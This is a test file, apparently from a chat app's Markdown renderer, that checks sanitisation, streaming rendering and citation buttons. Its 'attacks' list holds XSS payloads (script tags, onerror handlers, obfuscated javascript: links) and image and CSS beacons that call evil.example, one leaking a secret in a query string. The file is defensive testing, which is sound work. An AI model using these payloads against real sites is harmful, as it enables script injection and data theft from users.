@@ -1,0 +1,251 @@
+// @vitest-environment happy-dom
+import { act } from 'react';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import type { Source } from '#contract/chat.ts';
+import { type Citing, CitingContext } from './citation.tsx';
+import { Markdown } from './markdown.tsx';
+import { mount } from './mount-for-tests.tsx';
+
+let leave = () => {};
+afterEach(() => leave());
+
+function shown(text: string, growing = false, citing?: Citing) {
+  const page = mount(
+    <CitingContext value={citing}>
+      <Markdown text={text} growing={growing} />
+    </CitingContext>,
+  );
+  leave = page.leave;
+  return page;
+}
+
+/** What could act, load or lead somewhere else. */
+function dangers(place: Element): string[] {
+  const found: string[] = [];
+  for (const element of place.querySelectorAll('*')) {
+    // Our own icons.
+    if (element.closest('svg.lucide')) continue;
+    if (
+      /^(script|img|iframe|object|embed|svg|math|style|link|form|video|audio|base|meta)$/i.test(
+        element.tagName,
+      )
+    )
+      found.push(element.outerHTML);
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on') || name === 'src' || name === 'style' || name === 'id' || name === 'srcset')
+        found.push(`${name}=${value}`);
+      if (name === 'href' && !/^(https?:|mailto:)/i.test(value)) found.push(`${name}=${value}`);
+    }
+    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer')
+      found.push(element.outerHTML);
+  }
+  return found;
+}
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
+  '<!-- --><script>alert(1)</script><!-- -->',
+  '<div style="background:url(https://evil.example/)">x</div>',
+  '<style>*{background:url(https://evil.example/)}</style>',
+  '<form action="https://evil.example"><button>ok</button></form>',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](java\nscript:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](\u0001javascript:alert(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD4=)',
+  '[a](vbscript:msgbox(1))',
+  '[a](//evil.example/x)',
+  '[a](/admin/users)',
+  '[a](blob:https://evil.example/x)',
+  '[a][x]\n\n[x]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '![a](https://evil.example/p.png?q=segredo)',
+  '![a][x]\n\n[x]: https://evil.example/p.png',
+  '[![a](https://evil.example/p.png)](https://evil.example)',
+  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
+  '> - **[a](javascript:alert(1))** <img src=x onerror=alert(1)>',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> [b](javascript:alert(1)) |',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '# <a id="root">x</a>\n\nnota[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  'https://exemplo.br/"onmouseover="alert(1)',
+];
+
+describe('O-49 what a model or a document writes is never executed, loaded or followed unasked', () => {
+  test.each(attacks)('%s', (attack) => {
+    const { place } = shown(attack);
+    expect(dangers(place)).toEqual([]);
+  });
+
+  test('nor is any beginning of it while it is written, letter by letter', () => {
+    for (const attack of attacks) {
+      const page = shown('', true);
+      for (let end = 1; end <= attack.length; end++) {
+        page.show(<Markdown text={attack.slice(0, end)} growing />);
+        expect(dangers(page.place), attack.slice(0, end)).toEqual([]);
+        page.show(<Markdown text={`Antes.\n\n${attack.slice(0, end)}`} />);
+        expect(dangers(page.place), attack.slice(0, end)).toEqual([]);
+      }
+      page.leave();
+    }
+  });
+
+  test('raw HTML is shown as the text it is', () => {
+    const { place } = shown('Use <b>isto</b> e <script>aquilo</script>.');
+    expect(place.textContent).toBe('Use <b>isto</b> e <script>aquilo</script>.');
+  });
+
+  test('an image becomes a link with its words', () => {
+    const { place } = shown('![mapa da cidade](https://exemplo.br/mapa.png) e ![](https://exemplo.br/b.png)');
+    const links = [...place.querySelectorAll('a')];
+    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
+      ['mapa da cidade', 'https://exemplo.br/mapa.png'],
+      ['imagem', 'https://exemplo.br/b.png'],
+    ]);
+  });
+
+  test('links to the web and to mail open in a new tab', () => {
+    const { place } = shown('[a](https://exemplo.br) http://exemplo.br [c](mailto:ana@exemplo.br)');
+    for (const link of place.querySelectorAll('a')) expect(link.getAttribute('target')).toBe('_blank');
+    expect(place.querySelectorAll('a')).toHaveLength(3);
+  });
+
+  test('marks without measure cost no more than a moment and never break the page', () => {
+    const marks = [
+      '> ',
+      '>',
+      '- ',
+      '-    ',
+      '1. ',
+      '[',
+      '*',
+      '`',
+      '**a ',
+      '![',
+      '<',
+      '<a ',
+      '| ',
+      '#',
+      '&#',
+      '[^',
+      '~~a ',
+      '***a ',
+      '[a](',
+    ];
+    for (const mark of marks) {
+      const started = performance.now();
+      shown(mark.repeat(1_000)).leave();
+      shown(mark.repeat(1_000), true).leave();
+      expect(performance.now() - started, mark).toBeLessThan(4_000);
+    }
+    leave = () => {};
+  });
+
+  test('what is nested beyond reason is shown as it was written', () => {
+    expect(shown(`${'- '.repeat(500)}fundo`).place.querySelector('p')?.textContent).toContain('- - fundo');
+    expect(shown(`${'- '.repeat(5)}fundo`).place.querySelectorAll('li')).toHaveLength(5);
+    expect(shown('acima\n\n------------------------------').place.querySelector('hr')).not.toBeNull();
+  });
+});
+
+describe('an answer is read as Markdown', () => {
+  test('tables, lists, code, emphasis and tasks', () => {
+    const { place } = shown(
+      '**a** _b_ `c` ~~d~~\n\n| A |\n|---|\n| 1 |\n\n1. um\n2. dois\n\n```ts\nx\n```\n\n- [x] feito',
+    );
+    for (const name of ['strong', 'em', 'code', 'del', 'table', 'ol', 'pre'])
+      expect(place.querySelector(name), name).not.toBeNull();
+    expect(place.querySelector('[role=img]')?.getAttribute('aria-label')).toBe('feito');
+    expect(place.querySelector('input')).toBeNull();
+  });
+
+  test('its headings stand below those of the page', () => {
+    const { place } = shown('# um\n\n## dois');
+    expect(place.querySelector('h1, h2')).toBeNull();
+    expect(place.querySelectorAll('h3')).toHaveLength(2);
+  });
+
+  test('a tilde before a number means about', () => {
+    expect(shown('de ~10 a ~20').place.querySelector('del')).toBeNull();
+  });
+
+  test('words without a mark and words beside a mark are set alike', () => {
+    expect(shown('Só palavras: nada mais (2024), enfim!').place.innerHTML).toContain('<p>Só palavras');
+    for (const text of ['1. um', '- um', '# um', '2024) um', '    código', '+ um', '> um'])
+      expect(shown(text).place.querySelector('.answer-text > p'), text).toBeNull();
+  });
+
+  test('a link defined at the end works where it is used', () => {
+    const { place } = shown('Veja [o site][x].\n\nMais.\n\n[x]: https://exemplo.br');
+    expect(place.querySelector('a')?.getAttribute('href')).toBe('https://exemplo.br');
+    expect(place.textContent).not.toContain('[x]');
+  });
+
+  test('finished pieces of a growing answer are not drawn again', () => {
+    const page = shown('Um **parágrafo**.\n\nOutro', true);
+    const first = page.place.querySelector('p');
+    page.show(
+      <CitingContext value={undefined}>
+        <Markdown text={'Um **parágrafo**.\n\nOutro que **cresce'} growing />
+      </CitingContext>,
+    );
+    expect(page.place.querySelector('p')).toBe(first);
+    expect(page.place.textContent).toContain('Outro que cresce');
+    expect(page.place.textContent).not.toContain('*');
+  });
+});
+
+describe('A-10 markers', () => {
+  const source = (index: number): Source => ({
+    index,
+    kind: 'document',
+    title: `d${index}.pdf`,
+    snippet: 's',
+  });
+  const citing = (rest: Partial<Citing> = {}): Citing => ({
+    sources: [source(1), source(2)],
+    growing: false,
+    lit: undefined,
+    light: () => {},
+    show: () => {},
+    ...rest,
+  });
+
+  test('a marker that names a source is a button that opens it', () => {
+    const show = vi.fn();
+    const { place } = shown('Assim.[2]', false, citing({ show }));
+    const button = place.querySelector('sup button') as HTMLButtonElement;
+    expect([button.textContent, button.getAttribute('aria-label')]).toEqual(['2', 'Fonte 2: d2.pdf']);
+    act(() => button.click());
+    expect(show).toHaveBeenCalledWith(source(2));
+  });
+
+  test('a marker that names none stays text, also in company', () => {
+    const { place } = shown('Assim.[7] E [1, 9].', false, citing());
+    expect(place.querySelector('button')).toBeNull();
+    expect(place.textContent).toBe('Assim.[7] E [1, 9].');
+  });
+
+  test('a marker stands close to its word, whether a space was written before it or not', () => {
+    expect(shown('Assim. [1] E', false, citing()).place.textContent).toBe('Assim.1 E');
+  });
+
+  test('several numbers in one marker become several buttons', () => {
+    expect(shown('Assim.[1, 2]', false, citing()).place.querySelectorAll('sup button')).toHaveLength(2);
+  });
+
+  test('in code and in links nothing is a marker', () => {
+    const { place } = shown('`a[1]` e [texto \\[1\\]](https://exemplo.br)', false, citing());
+    expect(place.querySelector('sup')).toBeNull();
+  });
+
+  test('while the answer grows a marker has its shape, but opens nothing yet', () => {
+    const { place } = shown('Assim.[1] E', true, citing({ growing: true, sources: [] }));
+    expect(place.querySelector('sup button')?.hasAttribute('disabled')).toBe(true);
+  });
+});
